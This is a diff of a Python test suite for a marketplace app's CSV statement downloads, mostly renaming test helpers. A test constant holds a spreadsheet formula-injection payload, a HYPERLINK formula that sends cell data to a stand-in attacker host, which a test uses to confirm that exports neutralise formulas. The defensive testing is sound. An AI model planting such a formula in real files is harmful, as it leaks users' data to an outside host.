@@ -11,8 +11,8 @@ import pytest
 from domain.ledger.owner_view import Side
 from handlers.statements import cell, decimal
 from server.http import downloads
-from tests.support.job_in_progress import Work
-from tests.support.journal_samples import book_rows, download, lately
+from tests.support.job_in_progress import JobInProgress
+from tests.support.journal_samples import download, insert_transactions, recent_period
 
 ROWS = 2_500
 JANUARY = {"start": "2026-01-01T00:00:00Z", "end": "2026-02-01T00:00:00Z"}
@@ -21,14 +21,16 @@ EVIL = '=HYPERLINK("http://evil.test?"&A1,"Fence"), two "coats"\nand more'
 
 @pytest.fixture
 def work(market, server):
-    return Work(market, server)
+    return JobInProgress(market, server)
 
 
 async def test_a_statement_as_a_file(work):
     """Guard: the headers in `downloads.send`, `decimal`, and the running balance."""
-    await work.done()
+    await work.start_and_complete()
     await work.withdraw(20_000)
-    status, headers, rows = await download(work.contractor, "wallet/statement.csv", **lately())
+    status, headers, rows = await download(
+        work.contractor, "wallet/statement.csv", **recent_period()
+    )
     assert (status, headers["Content-Type"]) == (200, "text/csv; charset=utf-8")
     assert headers["Cache-Control"] == "no-store"
     assert headers["Content-Disposition"].startswith('attachment; filename="statement-')
@@ -50,11 +52,11 @@ async def test_a_statement_as_a_file(work):
 async def test_what_people_wrote_is_no_formula(market, server):
     """Guard: FORMULA in `cell`, and the csv module's quoting."""
     customer, contractor = await market.customer(), await market.contractor()
-    deal = Work(market, server)
+    deal = JobInProgress(market, server)
     deal.job = await market.job(customer, title=EVIL)
     await market.application(contractor, deal.job)
     await market.accept(contractor, await market.offer(customer, contractor, deal.job))
-    _, _, rows = await download(customer, "wallet/statement.csv", **lately())
+    _, _, rows = await download(customer, "wallet/statement.csv", **recent_period())
     assert [row["job"] for row in rows] == ["'" + EVIL]
     assert rows[0]["amount"] == "-1000.00"
 
@@ -88,10 +90,10 @@ def test_decimals(amount, currency, text):
 async def test_files_are_refused_like_commands(market):
     """Guard: `_caller` and `admit` before the first byte: every refusal is a problem."""
     customer, contractor = await market.customer(), await market.contractor()
-    span = lately()
+    span = recent_period()
     for party, path, params, code, status in (
-        (market.stranger(), "wallet/statement.csv", span, "unauthenticated", 401),
-        (market.stranger(), "admin/commissions.csv", span, "unauthenticated", 401),
+        (market.anonymous_client(), "wallet/statement.csv", span, "unauthenticated", 401),
+        (market.anonymous_client(), "admin/commissions.csv", span, "unauthenticated", 401),
         (customer, "admin/commissions.csv", span, "forbidden", 403),
         (contractor, "admin/commissions.csv", span, "forbidden", 403),
         (customer, "wallet/statement.csv", {}, "invalid", 422),
@@ -107,7 +109,7 @@ async def test_a_file_that_breaks_off_does_not_look_whole(market, server, monkey
     """Guard: `_cut` in `downloads.send`; an end in good order would say that this is all. And what
     fails before the first piece is a problem: `anext` in `Download.open`."""
     party = await market.contractor()
-    await book_rows(server.store, 1_000, user=party.id)
+    await insert_transactions(server.store, 1_000, user=party.id)
     real, broken_at = Side.effect, 700
 
     def broken(side, transaction):
@@ -130,7 +132,7 @@ async def test_who_does_not_read_is_cut_off(market, server, monkeypatch):
     # More than the buffers of the system take.
     monkeypatch.setattr("handlers.statements.encode", lambda rows: bytes(2_000_000))
     party = await market.contractor()
-    await book_rows(server.store, 2_000, user=party.id)
+    await insert_transactions(server.store, 2_000, user=party.id)
     host, port = party.url.removeprefix("http://").split(":")
     reader, writer = await asyncio.open_connection(host, int(port), limit=1024)
     span = "start=2026-01-01T00:00:00Z&end=2026-02-01T00:00:00Z"
@@ -157,7 +159,7 @@ async def test_a_long_statement_is_streamed_in_constant_memory(market, server):
     """Guard: `uow.each`, and TITLES_AT_ONCE in `statements.entries`; a list of all rows takes
     twice as much. Without `response.write` of each piece the length would be known before."""
     party = await market.contractor()
-    await book_rows(server.store, ROWS, user=party.id)
+    await insert_transactions(server.store, ROWS, user=party.id)
     headers = {"Authorization": f"Bearer {party.token}"}
     patient = aiohttp.ClientTimeout(total=250)
     tracemalloc.start()
